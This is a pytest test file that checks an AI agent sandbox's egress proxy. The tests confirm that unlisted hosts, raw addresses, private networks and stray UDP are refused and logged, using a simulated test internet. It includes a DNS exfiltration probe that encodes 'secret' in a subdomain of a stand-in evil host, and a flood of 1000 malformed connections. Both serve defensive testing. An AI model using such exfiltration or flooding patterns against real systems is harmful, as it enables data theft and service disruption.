@@ -1,0 +1,280 @@
+"""Egress by name in real namespaces: the proxy, its DNS and its record, against a test internet.
+
+Every target is a host the test_internet fixture made (198.51.100.0/24 in a
+namespace behind a veth pair); its servers log what reached them, so each test
+proves where a connection went, and where it did not.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import select
+import signal
+import threading
+import time
+from collections.abc import Sequence
+from typing import Any
+
+import pytest
+
+from claude_sandbox.jail import egresspolicy, egressrecord
+from claude_sandbox.jail import session as jail
+from claude_sandbox.jail.spec import JailSpec
+
+from .conftest import SYSTEM_PY, Internet, jail_available
+from .test_jail import assert_torn_down
+
+pytestmark = [
+    pytest.mark.jail,
+    pytest.mark.skipif(jail_available() is not None, reason=str(jail_available())),
+]
+
+ALLOWED, OTHER, EVIL = "198.51.100.10", "198.51.100.20", "198.51.100.30"
+
+# The agent's side: each argument is `kind:target`, each result one JSON line.
+CLIENT = r"""
+import json, socket, ssl, sys
+
+def http(address, port, host, family=socket.AF_INET):
+    with socket.socket(family) as s:
+        s.settimeout(15)
+        s.connect((address, port))
+        s.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
+        data = b""
+        while chunk := s.recv(65536):
+            data += chunk
+    status = data.split(b" ", 2)[1].decode() if data else "-"
+    return {"status": status, "body": data.partition(b"\r\n\r\n")[2].decode(errors="replace")}
+
+def tls(address, port, name):
+    context = ssl.create_default_context()
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    with socket.create_connection((address, port), timeout=15) as raw:
+        with context.wrap_socket(raw, server_hostname=name) as s:
+            s.sendall(f"GET / HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())
+            data = b""
+            while chunk := s.recv(65536):
+                data += chunk
+    return {"body": data.partition(b"\r\n\r\n")[2].decode(errors="replace")}
+
+def banner(address, port):
+    with socket.create_connection((address, port), timeout=15) as s:
+        return {"banner": s.recv(100).decode(errors="replace")}
+
+def udp(address, port):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.sendto(b"quic?", (address, port))
+    return {"sent": True}
+
+def dns(server, name):
+    query = (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
+             + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0\0\1\0\1")
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.settimeout(10)
+        s.sendto(query, (server, 53))
+        reply = s.recv(4096)
+    return {"rcode": reply[3] & 15, "answers": int.from_bytes(reply[6:8], "big")}
+
+for arg in sys.argv[1:]:
+    kind, *rest = arg.split("|")
+    try:
+        if kind == "http":
+            result = http(rest[0], int(rest[1]), rest[2])
+        elif kind == "http6":
+            result = http(rest[0], int(rest[1]), rest[2], socket.AF_INET6)
+        elif kind == "tls":
+            result = tls(rest[0], int(rest[1]), rest[2])
+        elif kind == "banner":
+            result = banner(rest[0], int(rest[1]))
+        elif kind == "udp":
+            result = udp(rest[0], int(rest[1]))
+        elif kind == "dns":
+            result = dns(rest[0], rest[1])
+        elif kind == "wait":
+            open(rest[0], "w").close()
+            while not __import__("os").path.exists(rest[1]):
+                __import__("time").sleep(0.01)
+            continue
+    except (OSError, ssl.SSLError) as exc:
+        result = {"error": type(exc).__name__, "why": str(exc)}
+    print(json.dumps({"arg": arg, **result}), flush=True)
+"""
+
+
+def _spec(internet: Internet, lines: Sequence[str] = ("allowed.test",),
+          policy: str = "allow-list", allow_ip: Sequence[str] = ()) -> JailSpec:
+    rules = tuple(rule for line in lines for rule in egresspolicy.parse_rule(line))
+    return JailSpec(tuple(allow_ip), (), (), egress_policy=policy, rules=rules, agent="claude",
+                    hosts_file=internet.hosts)
+
+
+def run_agent(spec: JailSpec, internet: Internet, args: Sequence[str], tmp_path: str,
+              during: object = None, client: str = CLIENT,
+              ) -> tuple[dict[str, dict[str, Any]], list[dict[str, Any]]]:
+    """Run CLIENT jailed under `spec`; (results by argument, the session's record)."""
+    out = os.path.join(tmp_path, f"out-{time.monotonic_ns()}")
+    where = os.path.join(tmp_path, f"record-{time.monotonic_ns()}")
+    os.mkdir(where, 0o700)
+    path, record_fd = egressrecord.create(where, {"session": "test", "agent": "claude",
+                                                  "policy": spec.egress_policy})
+    argv = ["/usr/bin/bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc",
+            "--unshare-pid", "--ro-bind", internet.hosts, "/etc/hosts",
+            "--bind", tmp_path, tmp_path, SYSTEM_PY, "-c", client, *args]
+    fd = os.open(out, os.O_WRONLY | os.O_CREAT, 0o600)
+    saved = os.dup(1)
+    try:
+        os.dup2(fd, 1)
+        j = jail.start(spec)
+        private_dir = j.private_dir
+        helper = None
+        if callable(during):
+            helper = threading.Thread(target=during, args=(j,), daemon=True)
+            helper.start()
+        status = j.run(argv, {"PATH": "/usr/bin:/bin", "LC_ALL": "C.UTF-8"}, record_fd=record_fd)
+    finally:
+        os.dup2(saved, 1)
+        os.close(saved)
+        os.close(fd)
+        os.close(record_fd)
+    assert_torn_down(j, private_dir)
+    with open(out) as f:
+        text = f.read()
+    assert status == 0, text
+    results = {entry["arg"]: entry for entry in map(json.loads, text.splitlines())}
+    return results, egressrecord.read(path)[1:]
+
+
+def test_an_unlisted_name_is_refused_over_http_and_tls_with_the_reason(
+        test_internet: Internet, tmp_path: str) -> None:
+    test_internet.clear()
+    args = [f"http|{EVIL}|80|evil.test", f"tls|{EVIL}|443|evil.test",
+            f"http|{ALLOWED}|80|allowed.test", f"tls|{ALLOWED}|443|allowed.test"]
+    results, record = run_agent(_spec(test_internet), test_internet, args, str(tmp_path))
+    refused_http = results[args[0]]
+    assert refused_http["status"] == "403"
+    assert "evil.test:80 is not on the allow-list" in str(refused_http["body"])
+    assert "allow-domain = evil.test" in str(refused_http["body"])
+    assert "ACCESS_DENIED" in str(results[args[1]].get("why", "")).upper()
+    assert results[args[2]]["body"] == "allowed host=allowed.test"
+    assert str(results[args[3]]["body"]).startswith("allowed sni=allowed.test")
+    assert not [line for line in test_internet.received() if line.startswith(EVIL)]
+    verdicts = {(e["kind"], e["name"], e["verdict"]) for e in record}
+    assert ("http", "evil.test", "refused") in verdicts
+    assert ("tls", "evil.test", "refused") in verdicts
+    assert ("tls", "allowed.test", "allowed") in verdicts
+    allowed = [e for e in record if e["name"] == "allowed.test" and e["kind"] == "tls"]
+    assert allowed[0]["received"] > 0 and allowed[0]["sent"] > 0
+
+
+def test_dns_answers_no_unlisted_name_and_no_query_leaves(
+        test_internet: Internet, tmp_path: str) -> None:
+    test_internet.clear()
+    made_up = "c2VjcmV0.exfil.evil.test"
+    args = [f"dns|169.254.1.53|{made_up}", f"dns|{EVIL}|{made_up}", f"dns|8.8.8.8|{made_up}"]
+    results, record = run_agent(_spec(test_internet), test_internet, args, str(tmp_path))
+    for arg in args:
+        assert results[arg] == {"arg": arg, "rcode": 3, "answers": 0}, results[arg]
+    # The query to the test internet's own resolver address was answered here.
+    assert not [line for line in test_internet.received() if " 53 " in line]
+    assert [e["verdict"] for e in record if e["kind"] == "dns"] == ["refused"] * 3
+
+
+def test_an_allowed_name_sent_to_another_address_reaches_the_allowed_host_only(
+        test_internet: Internet, tmp_path: str) -> None:
+    test_internet.clear()
+    args = [f"tls|{OTHER}|443|allowed.test", f"http|{EVIL}|80|allowed.test"]
+    results, record = run_agent(_spec(test_internet), test_internet, args, str(tmp_path))
+    assert str(results[args[0]]["body"]).startswith("allowed sni=allowed.test")
+    assert results[args[1]]["body"] == "allowed host=allowed.test"
+    received = test_internet.received()
+    assert not [line for line in received if line.startswith((OTHER, EVIL))], received
+    assert {e["upstream"] for e in record} == {ALLOWED}
+
+
+def test_other_tcp_needs_a_line_with_its_port(test_internet: Internet, tmp_path: str) -> None:
+    test_internet.clear()
+    args = [f"banner|{ALLOWED}|2222", f"banner|{OTHER}|2222"]
+    spec = _spec(test_internet, ("allowed.test", "other.test", "allowed.test:2222"))
+    results, record = run_agent(spec, test_internet, args, str(tmp_path))
+    assert results[args[0]]["banner"] == "allowed-banner\n"
+    assert results[args[1]].get("banner", "") == "" or "error" in results[args[1]]
+    assert not [line for line in test_internet.received() if line.startswith(OTHER)]
+    refused = [e for e in record if e["verdict"] == "refused"]
+    assert refused and refused[0]["fix"] == "allow-domain = other.test:2222"
+
+
+def test_udp_other_than_dns_raw_addresses_and_private_names_go_nowhere(
+        test_internet: Internet, tmp_path: str) -> None:
+    test_internet.clear()
+    args = [f"udp|{ALLOWED}|443", f"http|{ALLOWED}|80|{ALLOWED}",
+            f"http6|::ffff:{EVIL}|80|{EVIL}", f"http|{EVIL}|80|private.test",
+            "http|10.213.99.9|80|allowed.test"]
+    spec = _spec(test_internet, ("allowed.test", "private.test"))
+    results, _ = run_agent(spec, test_internet, args, str(tmp_path))
+    assert results[args[0]].get("error") == "PermissionError", results[args[0]]
+    assert results[args[1]]["status"] == "403"
+    assert "an address, not a name" in str(results[args[1]]["body"])
+    assert results[args[2]]["status"] == "403", results[args[2]]
+    assert results[args[3]]["status"] == "403"
+    assert "private network" in str(results[args[3]]["body"])
+    assert "error" in results[args[4]] or results[args[4]].get("status") == "-"
+    assert test_internet.received() == []
+
+
+def test_a_killed_proxy_ends_the_agents_reach(test_internet: Internet, tmp_path: str) -> None:
+    ready, go = os.path.join(tmp_path, "ready"), os.path.join(tmp_path, "go")
+    args = [f"http|{ALLOWED}|80|allowed.test", f"wait|{ready}|{go}",
+            f"http|{ALLOWED}|80|allowed.test|after"]
+
+    def kill_proxy(j: jail.Jail) -> None:
+        while not os.path.exists(ready):
+            time.sleep(0.01)
+        pid = j.started["proxy"]
+        pidfd = os.pidfd_open(pid)
+        os.kill(pid, signal.SIGKILL)
+        select.select([pidfd], [], [], 5)  # readable once it has exited
+        os.close(pidfd)
+        open(go, "w").close()
+
+    results, _ = run_agent(_spec(test_internet), test_internet, args, str(tmp_path), kill_proxy)
+    assert results[args[0]].get("body") == "allowed host=allowed.test", results
+    after = results[args[2]]
+    assert "error" in after, after
+
+
+def test_open_reaches_every_public_name_and_records_it(
+        test_internet: Internet, tmp_path: str) -> None:
+    test_internet.clear()
+    args = [f"http|{EVIL}|80|evil.test", f"banner|{OTHER}|2222", "http|10.213.99.9|80|x.test"]
+    results, record = run_agent(_spec(test_internet, (), "learn"), test_internet, args,
+                                str(tmp_path))
+    assert results[args[0]]["body"] == "evil host=evil.test"
+    assert results[args[1]]["banner"] == "other-banner\n"
+    assert "error" in results[args[2]] or results[args[2]].get("status") in ("-", "403")
+    assert egressrecord.learned(record) == ["allow-domain = evil.test",
+                                            "allow-domain = other.test:2222"]
+
+
+def test_a_flood_of_silent_and_malformed_clients_does_not_stop_the_proxy(
+        test_internet: Internet, tmp_path: str) -> None:
+    flood = r"""
+import socket, sys, json
+held = []
+for i in range(1000):
+    s = socket.create_connection(("198.51.100.30", 443 if i % 2 else 80), timeout=15)
+    if i % 3 == 0:
+        s.sendall(b"\x16\x03\x01\xff\xff" + b"\x01" * 64)  # a hello longer than it is
+    elif i % 3 == 1:
+        s.sendall(b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n")  # two Hosts
+    held.append(s)
+s = socket.create_connection(("198.51.100.10", 80), timeout=15)
+s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
+data = b""
+while chunk := s.recv(65536):
+    data += chunk
+print(json.dumps({"arg": "flood", "body": data.partition(b"\r\n\r\n")[2].decode()}))
+"""
+    results, _ = run_agent(_spec(test_internet), test_internet, [], str(tmp_path), client=flood)
+    assert results["flood"]["body"] == "allowed host=allowed.test"
